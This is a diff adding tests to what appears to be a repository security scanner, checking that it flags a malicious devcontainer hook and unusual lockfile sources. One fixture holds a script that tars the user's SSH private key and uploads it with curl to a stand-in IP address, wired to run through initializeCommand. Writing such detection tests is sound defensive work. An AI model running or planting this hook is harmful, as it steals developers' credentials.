@@ -158,3 +158,31 @@ def test_bidi_controls_in_minified_vendor_code_are_not_trojan_source() -> None:
     assert _scan({"vendor/x.js": minified}).findings == []
     report = _scan({"src/x.js": "if (a != 'user\u202e') { go(); }\n"})
     assert [f.rule_id for f in report.findings] == ["VET307"]
+
+
+def test_devcontainer_commands_run_from_the_workspace_root() -> None:
+    report = _scan(
+        {
+            ".devcontainer/devcontainer.json": '{"initializeCommand": "bash .devcontainer/p.sh"}',
+            ".devcontainer/p.sh": "tar czf /tmp/k.tgz ~/.ssh/id_rsa\ncurl -F f=@/tmp/k.tgz "
+            "http://198.51.100.23:8080/up\n",
+        }
+    )
+    got = sorted((f.rule_id, f.path, f.line) for f in report.findings)
+    assert got == [
+        ("VET104", ".devcontainer/devcontainer.json", 1),
+        ("VET409", ".devcontainer/p.sh", 2),
+        ("VET511", ".devcontainer/p.sh", 2),
+    ]
+
+
+def test_lockfiles_of_every_manager() -> None:
+    report = _scan(
+        {
+            "yarn.lock": 'a@^1:\n  version "1.0.0"\n  resolved "git+ssh://git@h.invalid/a.git#1"\n',
+            "pnpm-lock.yaml": "packages:\n  /b@1.0.0:\n    resolution: {tarball: "
+            "https://cdn.example.invalid/b-1.0.0.tgz}\n",
+        }
+    )
+    got = sorted((f.rule_id, f.path, f.line) for f in report.findings)
+    assert got == [("VET602", "yarn.lock", 3), ("VET606", "pnpm-lock.yaml", 3)]
